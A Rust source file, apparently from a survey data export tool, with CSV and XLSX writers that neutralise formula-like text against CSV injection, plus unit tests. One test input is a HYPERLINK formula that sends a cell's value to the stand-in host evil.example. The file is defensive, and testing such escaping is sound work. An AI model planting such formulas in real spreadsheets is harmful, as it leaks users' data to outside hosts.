//! Table writers: CSV (one writer per table) and XLSX (one constant-memory sheet per
//! table, written to temporary files as rows arrive).

use std::borrow::Cow;
use std::collections::HashSet;
use std::io::Write;

use rust_xlsxwriter::{Format, Workbook, Worksheet};

use super::{Cell, ExportError, Layout, Sink};

/// The byte order mark that makes Excel read a CSV file as UTF-8.
pub const BOM: &[u8] = "\u{feff}".as_bytes();

/// How CSV text cells are written.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum CsvCells {
    /// Text a spreadsheet would run as a formula gets a leading `'` (see
    /// [`neutralise`]); the default.
    #[default]
    Neutralised,
    /// Every cell as it is, for tools that read CSV as data (`tianye export
    /// --raw-csv`, `?raw=1`).
    Raw,
}

impl CsvCells {
    /// `text` as this mode writes it.
    pub fn text(self, text: &str) -> Cow<'_, str> {
        match self {
            CsvCells::Neutralised => neutralise(text),
            CsvCells::Raw => text.into(),
        }
    }
}

/// Whether `text` is a plain negative decimal number (`-5`, `-2.5`): a spreadsheet
/// reads it as that number and runs nothing, and choice codes such as `-1` or `-99`
/// ("refused", "don't know") are common.
fn is_negative_number(text: &str) -> bool {
    let Some(rest) = text.strip_prefix('-') else { return false };
    let (whole, fraction) = rest.split_once('.').unwrap_or((rest, "0"));
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && digits(fraction)
}

/// A text cell as the CSV export writes it: text that starts with `=`, `+`, `-`, `@`,
/// tab or carriage return, which Excel, WPS and LibreOffice would run as a formula,
/// gets a leading `'` (OWASP's advice on CSV injection), so it shows as the text it
/// is. A plain negative number (`-5`, `-2.5`) stays as it is. Numbers answered to
/// number questions are not text and are never changed.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    match text.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !is_negative_number(text) => {
            format!("'{text}").into()
        }
        _ => text.into(),
    }
}

/// CSV output: one writer per table (`None` for tables not wanted). Each file starts
/// with a UTF-8 BOM. Text cells and headers are written as [`CsvCells`] says.
pub struct CsvSink<W: Write> {
    writers: Vec<Option<csv::Writer<W>>>,
    cells: CsvCells,
}

impl<W: Write> CsvSink<W> {
    /// A sink writing table `i` to `outputs[i]` (when `Some`), text neutralised.
    pub fn new(outputs: Vec<Option<W>>) -> Result<CsvSink<W>, ExportError> {
        CsvSink::with_cells(outputs, CsvCells::Neutralised)
    }

    /// A sink writing table `i` to `outputs[i]` (when `Some`), text as `cells` says.
    pub fn with_cells(outputs: Vec<Option<W>>, cells: CsvCells) -> Result<CsvSink<W>, ExportError> {
        let mut writers = Vec::with_capacity(outputs.len());
        for out in outputs {
            writers.push(match out {
                Some(mut w) => {
                    w.write_all(BOM)?;
                    Some(csv::WriterBuilder::new().buffer_capacity(64 * 1024).from_writer(w))
                }
                None => None,
            });
        }
        Ok(CsvSink { writers, cells })
    }

    /// Flushes every file.
    pub fn finish(mut self) -> Result<(), ExportError> {
        for w in self.writers.iter_mut().flatten() {
            w.flush()?;
        }
        Ok(())
    }
}

impl<W: Write> Sink for CsvSink<W> {
    fn wants(&self, table: usize) -> bool {
        self.writers.get(table).is_some_and(Option::is_some)
    }

    fn header(&mut self, table: usize, headers: &[&str]) -> Result<(), ExportError> {
        let cells = self.cells;
        if let Some(Some(w)) = self.writers.get_mut(table) {
            w.write_record(headers.iter().map(|h| cells.text(h).into_owned()))?;
        }
        Ok(())
    }

    fn row(&mut self, table: usize, cells: &[Cell]) -> Result<(), ExportError> {
        let mode = self.cells;
        if let Some(Some(w)) = self.writers.get_mut(table) {
            for cell in cells {
                match cell {
                    Cell::Empty => w.write_field("")?,
                    Cell::Text(s) => w.write_field(mode.text(s).as_bytes())?,
                    // A JSON number (`-3`, `-2.5`) is a number in the sheet too.
                    Cell::Number(n) => w.write_field(n.to_string())?,
                }
            }
            w.write_record(None::<&[u8]>)?;
        }
        Ok(())
    }
}

/// Excel's row limit per sheet.
const MAX_ROWS: u32 = 1_048_576;
/// Excel's limit on the characters in a cell.
const MAX_CELL_CHARS: usize = 32_767;

/// A valid, unique sheet name for `name`: no `[]:*?/\`, at most 31 characters.
pub fn sheet_name(name: &str, taken: &mut HashSet<String>) -> String {
    let clean: String = name
        .chars()
        .map(|c| if "[]:*?/\\".contains(c) { '_' } else { c })
        .collect::<String>()
        .trim_matches('\'')
        .chars()
        .take(31)
        .collect();
    let base = if clean.is_empty() { "sheet".to_owned() } else { clean };
    let mut candidate = base.clone();
    let mut n = 2;
    while !taken.insert(candidate.to_lowercase()) {
        let suffix = format!("~{n}");
        candidate = base.chars().take(31 - suffix.len()).collect::<String>() + &suffix;
        n += 1;
    }
    candidate
}

/// XLSX output: one sheet per table, first row bold and frozen.
pub struct XlsxSink {
    workbook: Workbook,
    sheets: Vec<Worksheet>,
    names: Vec<String>,
    next_row: Vec<u32>,
    bold: Format,
}

impl XlsxSink {
    /// A workbook with one sheet per table of `layout`.
    pub fn new(layout: &Layout) -> Result<XlsxSink, ExportError> {
        let mut workbook = Workbook::new();
        let mut taken = HashSet::new();
        let mut sheets = Vec::new();
        let mut names = Vec::new();
        for table in &layout.tables {
            let mut sheet = workbook.new_worksheet_with_constant_memory()?;
            let name = sheet_name(&table.name, &mut taken);
            sheet.set_name(&name)?;
            sheet.set_freeze_panes(1, 0)?;
            sheets.push(sheet);
            names.push(name);
        }
        let n = sheets.len();
        Ok(XlsxSink {
            workbook,
            sheets,
            names,
            next_row: vec![0; n],
            bold: Format::new().set_bold(),
        })
    }

    /// Writes the workbook to `out` (a file the caller created with the mode it wants).
    pub fn save(mut self, out: impl Write + Send) -> Result<(), ExportError> {
        for sheet in self.sheets.drain(..) {
            self.workbook.push_worksheet(sheet);
        }
        self.workbook.save_to_writer(out)?;
        Ok(())
    }

    fn take_row(&mut self, table: usize) -> Result<u32, ExportError> {
        let row = self.next_row[table];
        if row >= MAX_ROWS {
            return Err(ExportError::TooManyRows { table: self.names[table].clone() });
        }
        self.next_row[table] += 1;
        Ok(row)
    }
}

fn clip(s: &str) -> &str {
    match s.char_indices().nth(MAX_CELL_CHARS) {
        Some((i, _)) => &s[..i],
        None => s,
    }
}

impl Sink for XlsxSink {
    fn wants(&self, table: usize) -> bool {
        table < self.sheets.len()
    }

    fn header(&mut self, table: usize, headers: &[&str]) -> Result<(), ExportError> {
        let row = self.take_row(table)?;
        let sheet = &mut self.sheets[table];
        for (c, h) in headers.iter().enumerate() {
            sheet.write_string_with_format(row, c as u16, clip(h), &self.bold)?;
        }
        Ok(())
    }

    fn row(&mut self, table: usize, cells: &[Cell]) -> Result<(), ExportError> {
        let row = self.take_row(table)?;
        let sheet = &mut self.sheets[table];
        for (c, cell) in cells.iter().enumerate() {
            let col = c as u16;
            match cell {
                Cell::Empty => {}
                Cell::Text(s) => {
                    sheet.write_string(row, col, clip(s))?;
                }
                Cell::Number(n) => match n.as_f64() {
                    Some(f) if f.is_finite() => {
                        sheet.write_number(row, col, f)?;
                    }
                    _ => {
                        sheet.write_string(row, col, n.to_string())?;
                    }
                },
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_a_spreadsheet_would_run_gets_a_leading_quote() {
        for (text, written) in [
            (
                r#"=HYPERLINK("http://evil.example/?"&C2,"x")"#,
                r#"'=HYPERLINK("http://evil.example/?"&C2,"x")"#,
            ),
            ("=1+1", "'=1+1"),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("=", "'="),
            ("-", "'-"),
            ("--5", "'--5"),
            ("-.5", "'-.5"),
            ("-5.", "'-5."),
            ("-5e3", "'-5e3"),
            ("-1 2", "'-1 2"),
            ("+5", "'+5"),
            // Plain negative numbers run nothing.
            ("-5", "-5"),
            ("-2.5", "-2.5"),
            ("-99", "-99"),
            // Only the first character counts.
            ("a=1+1", "a=1+1"),
            (" =1+1", " =1+1"),
            ("'=1+1", "'=1+1"),
            ("石门村", "石门村"),
            ("2026-07-01T09:30:00+08:00", "2026-07-01T09:30:00+08:00"),
            ("", ""),
        ] {
            assert_eq!(neutralise(text), written, "{text:?}");
            assert_eq!(CsvCells::Raw.text(text), text);
        }
    }

    fn csv_of(cells: CsvCells) -> String {
        let mut out = Vec::new();
        let mut sink = CsvSink::with_cells(vec![Some(&mut out)], cells).unwrap();
        sink.header(0, &["=h", "b", "c", "d"]).unwrap();
        let number = |s: &str| Cell::Number(s.parse().unwrap());
        sink.row(0, &[Cell::Text("-2+3".into()), number("-3"), number("-2.5"), Cell::Empty])
            .unwrap();
        sink.finish().unwrap();
        String::from_utf8(out[BOM.len()..].to_vec()).unwrap()
    }

    #[test]
    fn numbers_stay_numbers_and_raw_writes_text_as_it_is() {
        assert_eq!(csv_of(CsvCells::Neutralised), "'=h,b,c,d\n'-2+3,-3,-2.5,\n");
        assert_eq!(csv_of(CsvCells::Raw), "=h,b,c,d\n-2+3,-3,-2.5,\n");
    }

    #[test]
    fn sheet_names_are_valid_and_unique() {
        let mut taken = HashSet::new();
        assert_eq!(sheet_name("member", &mut taken), "member");
        assert_eq!(sheet_name("Member", &mut taken), "Member~2");
        assert_eq!(sheet_name("a/b[c]", &mut taken), "a_b_c_");
        let long = "x".repeat(40);
        assert_eq!(sheet_name(&long, &mut taken).chars().count(), 31);
        assert_eq!(sheet_name(&long, &mut taken), format!("{}~2", "x".repeat(29)));
    }
}
